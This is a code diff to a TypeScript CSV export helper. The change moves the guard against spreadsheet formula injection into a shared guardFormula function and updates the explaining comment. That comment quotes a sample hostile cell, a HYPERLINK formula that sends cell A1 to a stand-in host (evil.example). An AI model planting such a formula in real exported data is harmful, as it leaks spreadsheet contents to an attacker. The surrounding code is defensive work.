@@ -6,7 +6,9 @@
 // `+`, `-` or `@` as a formula (and a leading tab or carriage return can hide one), so a
 // customer who names their account `=HYPERLINK("https://evil.example?"&A1,"Open")` would run
 // it on the admin's machine when the export is opened. Such a cell is written with a single
-// quote in front, which spreadsheets show as text and do not evaluate.
+// quote in front, which spreadsheets show as text and do not evaluate; so is a text that starts
+// with quotes before such a character, and Steward's CSV import takes that one quote off again,
+// so an export imports back unchanged (src/lib/csvFormula.ts).
 //
 // Real negative numbers must stay numbers, so the rule follows the column's type:
 // - a value that is a JavaScript number is a number column of the database (integers and
@@ -16,9 +18,10 @@
 //   and neutralized like text otherwise — a hostile string cannot pass as a number;
 // - everything else is text: neutralized whenever it starts with one of those characters,
 //   even "-5" (in a text column it is a word, not an amount).
+import { guardFormula } from '../../lib/csvFormula.ts';
+
 export type CsvColumnType = 'text' | 'number';
 
-const formulaStart = /^[=+\-@\t\r]/;
 const decimal = /^-?\d+(\.\d+)?$/;
 
 export function csvCell(value: unknown, type: CsvColumnType = 'text'): string {
@@ -31,7 +34,7 @@ export function csvCell(value: unknown, type: CsvColumnType = 'text'): string {
         ? JSON.stringify(value)
         : String(value);
   const number = type === 'number' && decimal.test(text);
-  return quoted(!number && formulaStart.test(text) ? `'${text}` : text);
+  return quoted(number ? text : guardFormula(text));
 }
 
 function quoted(text: string): string {
